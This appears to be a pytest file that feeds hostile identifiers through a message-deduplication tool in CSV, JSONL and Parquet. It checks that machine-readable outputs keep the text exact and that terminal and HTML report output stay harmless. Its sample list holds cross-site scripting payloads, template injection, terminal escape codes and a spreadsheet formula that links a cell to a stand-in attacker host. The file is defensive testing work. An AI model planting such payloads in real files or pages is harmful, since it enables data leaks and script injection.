"""Ids and names meant to do harm come through exact where programs read, and harmless where people do."""

import csv
import io
import json
import unicodedata
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

HOSTILE = [
    "line\nbreak",
    "line\r\nbreak",
    "nul\0byte",
    "nul\0byte\0",
    "<script>alert(1)</script>",
    "</script><img src=x onerror=alert(2)>",
    '=HYPERLINK("http://evil.example/"&A1)',
    "+1",
    "@SUM(A1)",
    "x" * 65_536,
    "x" * 65_535 + "y",
    unicodedata.normalize("NFC", "é"),
    unicodedata.normalize("NFD", "é"),
    "NaN",
    "null",
    "007",
    "7",
    "1.0",
    " padded ",
    "padded",
    '"quoted"',
    "a,b",
    "\ufeffmark",
    "\x1b[31mred\x1b[0m",
    "\u202eright to left",
    "[bold]markup[/bold] :smile:",
    "{{ 7*7 }}",
    "\U0001f600",
    "\u2028",
]


def write_csv(path: Path, rows) -> None:
    with path.open("w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file, quoting=csv.QUOTE_ALL)
        writer.writerow(rows[0].keys())
        writer.writerows(row.values() for row in rows)


def write_jsonl(path: Path, rows) -> None:
    path.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")


def write_parquet(path: Path, rows) -> None:
    pq.write_table(pa.Table.from_pylist(rows), path)


def read_csv(path: Path):
    csv.field_size_limit(1 << 20)
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode(), newline="")))


def read_jsonl(path: Path):
    return [json.loads(line) for line in path.read_bytes().decode().split("\n") if line]


def read_parquet(path: Path):
    return pq.read_table(path).to_pylist()


WRITERS = {"csv": write_csv, "jsonl": write_jsonl, "parquet": write_parquet}
READERS = {"csv": read_csv, "jsonl": read_jsonl, "parquet": read_parquet}


def hostile_rows():
    """Each text as an id, a source, a connection and a queue of its own; then every receipt once more."""
    rows = [
        {
            "received_at": 1_000 + place,
            "unique_message_id": text,
            "message_source_id": text,
            "connection_id": text,
            "destination": f"queue://{text}",
        }
        for place, text in enumerate(HOSTILE)
    ]
    return [*rows, *({**row, "received_at": 2_000} for row in rows)]


@pytest.mark.parametrize("format_", WRITERS)
@pytest.mark.parametrize("ending", READERS)
def test_verdicts_hold_the_exact_text(simulate, tmp_path, format_, ending):
    rows = hostile_rows()
    WRITERS[format_](tmp_path / f"log.{format_}", rows)
    how = "--window", "9", "--expiry", "9", "--domain", "name:one", "--verdicts", f"v.{ending}", "--json"
    ran = simulate(f"log.{format_}", *how)
    assert ran.status == 0, ran.err
    verdicts = READERS[ending](tmp_path / f"v.{ending}")
    assert [row["unique_message_id"] for row in verdicts] == HOSTILE * 2
    assert [row["message_source_id"] for row in verdicts] == HOSTILE * 2
    assert [row["verdict"] for row in verdicts] == ["new"] * len(HOSTILE) + ["duplicate"] * len(HOSTILE)
    assert [int(row["row"]) for row in verdicts] == list(range(len(rows)))


def test_names_are_exact_in_json(simulate, tmp_path):
    write_jsonl(tmp_path / "log.jsonl", hostile_rows())
    ran = simulate("log.jsonl", "--json", "--domain", "connection")
    assert [domain["domain"] for domain in json.loads(ran.out)["domains"]] == sorted(HOSTILE)
    assert ran.out.count("\n") == 1
    assert not any(control in ran.out for control in "\0\x1b\u2028\u202e")


@pytest.mark.parametrize("key", ["default", "connection", "name:<b>\x1b[31m"])
def test_the_table_and_the_report_are_harmless(simulate, tmp_path, key):
    write_jsonl(tmp_path / "log.jsonl", hostile_rows())
    ran = simulate("log.jsonl", "--domain", key, "--report", "r.html")
    assert ran.status == 0, ran.err
    assert not any(control in ran.out for control in "\0\x1b\r\u2028\u202e\ufeff")
    report = (tmp_path / "r.html").read_text(encoding="utf-8")
    assert "<script>alert(1)" not in report
    assert "<img src=x" not in report
    assert len(report) < 2_000_000


def test_a_missing_id_or_source_is_empty_text_in_verdicts(simulate, tmp_path):
    write_jsonl(
        tmp_path / "log.jsonl",
        [{"received_at": 1, "unique_message_id": None}, {"received_at": 2, "unique_message_id": "a"}],
    )
    simulate("log.jsonl", "--domain", "name:x", "--window", "1", "--expiry", "1", "--verdicts", "v.jsonl")
    assert read_jsonl(tmp_path / "v.jsonl") == [
        {"row": 0, "domain": "x", "unique_message_id": "", "message_source_id": "", "verdict": "unchecked"},
        {"row": 1, "domain": "x", "unique_message_id": "a", "message_source_id": "", "verdict": "new"},
    ]
